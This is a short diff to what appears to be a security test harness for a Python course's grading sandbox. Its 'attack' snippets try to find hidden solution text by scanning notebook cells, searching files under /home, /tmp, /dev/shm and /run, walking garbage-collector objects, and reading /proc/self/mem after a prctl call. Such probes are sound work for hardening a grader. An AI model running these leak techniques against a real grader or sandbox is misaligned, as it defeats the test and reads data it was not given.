@@ -246,9 +246,10 @@ attack(
         print("{LEAK} 3 ", [cell for cell in In if wanted in cell])
         print("{LEAK} 4 ", [path for folder in ("/units", "/home", "/tmp", "/dev/shm", "/run", os.path.dirname(ad.__file__))
             for path in Path(folder).rglob("*") if path.suffix in (".ipynb", ".py") and wanted in path.read_text(errors="ignore")])
-        texts = {{id(thing): thing for held in gc.get_objects() if isinstance(held, (dict, list, tuple))
-            for thing in gc.get_referents(held) if isinstance(thing, (str, bytes)) and len(thing) > 200}}
-        print("{LEAK} 5 ", [thing[:400] for thing in texts.values() if (wanted if isinstance(thing, str) else wanted.encode()) in thing])
+        gc.unfreeze()
+        texts = {{id(thing): thing for held in gc.get_objects() if type(held) in (dict, list, tuple)
+            for thing in gc.get_referents(held) if type(thing) in (str, bytes) and len(thing) > 200}}
+        print("{LEAK} 5 ", [thing[:400] for thing in texts.values() if (wanted if type(thing) is str else wanted.encode()) in thing])
         print("looked everywhere")
     """,
 )
@@ -260,6 +261,7 @@ attack(
     last=f"""
         import ctypes
 
+        course.load("01_operators")
         ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # a process may be read, by itself too, when it says so
         wanted = b"atMulOp(ad."
         with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
